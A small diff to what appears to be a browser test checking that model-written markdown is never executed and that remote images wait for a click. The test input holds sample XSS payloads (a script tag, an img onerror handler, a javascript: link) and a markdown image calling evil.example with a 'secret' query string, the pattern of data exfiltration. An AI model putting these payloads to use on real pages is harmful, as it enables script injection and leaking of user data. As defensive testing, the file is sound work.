@@ -165,7 +165,7 @@ test('what a model writes is never run, and remote pictures wait for a click', a
   const trouble = watchForTrouble(page, product);
   model.queue({
     text: [
-      '<script>alert(1)</script> <img src=x onerror="alert(2)"> ',
+      '<script>alert(1)</script> <img src=x onerror="alert(2)">\n\n',
       '[bad](javascript:alert(3)) [good](https://example.org/page)\n\n',
       '![chart](https://evil.example/x.png?q=secret)\n\n',
       '| a | b |\n| - | - |\n| 1 | 2 |\n\n',
